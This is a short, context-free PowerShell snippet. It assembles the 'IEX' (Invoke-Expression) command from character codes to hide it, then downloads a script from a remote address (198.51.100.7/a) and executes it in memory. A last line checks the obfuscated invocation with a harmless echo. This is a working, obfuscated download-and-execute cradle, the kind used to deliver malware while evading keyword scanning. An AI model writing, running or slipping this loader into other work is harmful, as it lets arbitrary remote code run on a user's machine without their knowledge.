$x = [char[]](73,69,88) -join ''
& $x ((New-Object Net.WebClient).DownloadString('http://198.51.100.7/a'))
& ([char]73+[char]69+[char]0x58) 'Write-Output 1'
